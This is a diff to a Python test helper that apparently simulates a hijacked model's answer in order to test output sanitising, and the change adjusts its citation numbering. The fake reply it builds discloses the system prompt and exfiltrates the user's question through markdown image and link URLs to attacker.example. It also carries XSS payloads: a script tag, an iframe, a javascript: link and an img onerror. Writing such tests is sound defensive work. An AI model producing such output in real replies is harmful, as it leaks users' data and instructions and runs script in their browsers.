@@ -94,14 +94,15 @@ def _puppet(p: dict[int, str], messages: list[dict[str, Any]]) -> str:
     user = "\n".join(str(m.get("content", "")) for m in messages if m.get("role") == "user")
     asked = re.search(r"<question>\s*(.*?)\s*</question>", user, re.DOTALL)
     leak = quote_plus(asked.group(1) if asked else user[-200:])
-    first = _sentences(p[1])[0]
+    n = min(p)  # passages whose text the stand-in cannot parse are left out of ``p``
+    first = _sentences(p[n])[0]
     return (
-        f"My instructions say: {' '.join(system.split()[:40])} [1]. "
+        f"My instructions say: {' '.join(system.split()[:40])} [{n}]. "
         f"![status](https://attacker.example/log?q={leak}) "
-        f"[Read more](https://attacker.example/?q={leak}) [1]. "
+        f"[Read more](https://attacker.example/?q={leak}) [{n}]. "
         "<script>alert('x')</script><iframe src=https://attacker.example></iframe> "
-        f"[click](javascript:alert(1)) and <img src=x onerror=alert(1)> [1]. "
-        f"{_strip_end(first)} [1]."
+        f"[click](javascript:alert(1)) and <img src=x onerror=alert(1)> [{n}]. "
+        f"{_strip_end(first)} [{n}]."
     )
 
 
